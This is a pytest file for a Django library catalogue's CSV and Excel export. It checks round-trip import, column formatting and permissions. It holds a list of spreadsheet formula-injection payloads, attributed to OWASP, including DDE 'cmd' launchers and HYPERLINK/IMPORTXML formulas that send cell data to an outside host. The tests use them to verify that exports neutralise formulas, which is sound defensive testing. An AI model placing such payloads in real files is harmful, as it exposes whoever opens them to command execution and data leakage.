"""The list as a table: what comes out can come in again, and no spreadsheet runs it."""

import csv
import io

import openpyxl
import pytest

from library.models import Author, Authorship, Publication

EXPORT = "/admin/library/publication/export/"
CSV, XLSX = "0", "1"
# OWASP, CSV Injection; and the variants of security.md P5.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org", A1), "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+1 202 555 0100",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "=1+1;=2+2",
    '"=1+1"',
    "=1,=2",
]
STARTS_A_FORMULA = tuple("=+-@＝＋－＠\t\r\n")


@pytest.fixture
def exported(staff_client):
    """exported(format, query) → the answer to the export form."""
    return lambda format=CSV, query="": staff_client.post(EXPORT + query, {"format": format, "resource": "0"})


def rows(answer):
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def by_slug(answer):
    return {row["slug"]: row for row in rows(answer)}


@pytest.fixture
def rich(publish):
    """Publications that use every column, in every state."""
    full = publish(
        'Résumé, “quoted” and "plain"',
        slug="full",
        subtitle="Sub",
        type="law",
        topics=["Reentry", "Courts; and judges"],
        audiences=["Courts"],
        summary="One.\r\n\r\nTwo.",
        year=2007,
        month=3,
        day=15,
        publisher="P",
        language="es",
        identifier="NCJ 1",
        funder="F",
        award_number="1",
        rights="R",
        provenance="S",
        facts_verified=False,
        history_note="N",
        is_featured=True,
    )
    names = [("person", "van der Berg", "A."), ("body", "Health, Education, and Welfare", ""), ("person", "Plato", "")]
    for position, (kind, name, given) in enumerate(reversed(names)):
        author = Author.objects.create(kind=kind, name=name, given=given)
        Authorship.objects.create(publication=full, author=author, position=position)
    for state in ("draft", "scheduled", "withdrawn"):
        publish(f"A {state} one", state=state)
    return full


def test_export_has_every_column_in_catalogue_form(exported, rich):
    row = next(row for row in rows(exported()) if row["slug"] == "full")
    assert row["authors"] == "Plato,; org: Health, Education, and Welfare; van der Berg, A."
    assert row["topics"] == '"Courts; and judges"; Reentry'
    assert (row["year"], row["month"], row["day"], row["type"]) == ("2007", "3", "15", "law")
    assert (row["facts_verified"], row["featured"], row["state"]) == ("no", "yes", "published")


@pytest.mark.usefixtures("rich")
def test_exported_catalogue_imported_again_changes_nothing(exported, run, catalogue):
    entries = Publication.history.count()
    told = run(catalogue(exported().content))
    assert told.error is None, told.problems
    assert told.out.endswith("\n4 unchanged.\n")
    assert Publication.history.count() == entries


@pytest.mark.usefixtures("rich")
def test_exported_catalogue_fills_an_empty_library_the_same_way(exported, run, catalogue):
    path = catalogue(exported().content)
    before = by_slug(exported())
    Publication.objects.all().delete()
    assert (
        run(catalogue(path.read_bytes().replace(b'"scheduled"', b'"draft"').replace(b'"withdrawn"', b'"draft"'))).error
        is None
    )
    after = by_slug(exported())
    assert after.keys() == before.keys()
    for slug, row in after.items():
        row["state"] = before[slug]["state"]
        assert row == before[slug] | {"summary": before[slug]["summary"].replace("\r\n", "\n")}


def test_export_begins_with_a_byte_order_mark_and_names_its_type(exported, publish):
    publish()
    answer = exported()
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].endswith('.csv"')


TEXT_FIELDS = [
    *("title", "subtitle", "publisher", "summary", "identifier", "funder"),
    *("award_number", "rights", "provenance", "history_note"),
]


@pytest.fixture
def hostile(publish):
    """One publication for each payload, with the payload in every text field, topic, audience and author."""
    for number, payload in enumerate(PAYLOADS):
        fields = dict.fromkeys(TEXT_FIELDS, payload)
        publication = publish(
            **fields, slug=f"p{number}", topics=[f"{payload} t{number}"], audiences=[f"{payload} a{number}"]
        )
        author = Author.objects.create(kind="body", name=f"{payload} {number}")
        Authorship.objects.create(publication=publication, author=author)


@pytest.mark.usefixtures("hostile")
def test_no_cell_of_a_csv_export_begins_a_formula(exported):
    cells = [cell for row in rows(exported()) for cell in row.values()]
    assert sum(cell.startswith("'") for cell in cells) > len(PAYLOADS) * len(TEXT_FIELDS) / 2
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(STARTS_A_FORMULA)]


@pytest.mark.usefixtures("hostile")
def test_hostile_cells_come_back_as_they_were(exported, run, catalogue):
    told = run(catalogue(exported().content))
    assert told.error is None, told.problems
    assert told.out.endswith(f"\n{len(PAYLOADS)} unchanged.\n"), told.out


@pytest.mark.usefixtures("hostile")
def test_cells_of_a_workbook_are_text_as_it_is(exported):
    sheet = openpyxl.load_workbook(io.BytesIO(exported(XLSX).content)).active
    header, *lines = sheet.iter_rows()
    assert {cell.data_type for line in lines for cell in line if cell.value is not None} == {"s"}
    titles = {line[1].value for line in lines}
    assert {"=1+1", "+1 202 555 0100", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "'=1+1"} <= titles
    assert [cell.value for cell in header][:3] == ["slug", "title", "subtitle"]


def test_filtered_list_is_exported_filtered(exported, publish):
    publish("Held", state="published")
    publish("Waiting", state="draft")
    assert [row["slug"] for row in rows(exported(query="?state__exact=draft"))] == ["waiting"]


def test_export_asks_the_database_as_often_for_many_as_for_few(exported, publish, django_assert_max_num_queries):
    for number in range(30):
        publish(f"Document {number}", topics=["Reentry"], audiences=["Courts"])
    with django_assert_max_num_queries(14):
        assert len(rows(exported())) == 30


def test_export_needs_the_right_to_view(client, django_user_model):
    client.force_login(django_user_model.objects.create_user("nobody", password="x" * 12, is_staff=True))
    assert client.post(EXPORT, {"format": CSV}).status_code == 403
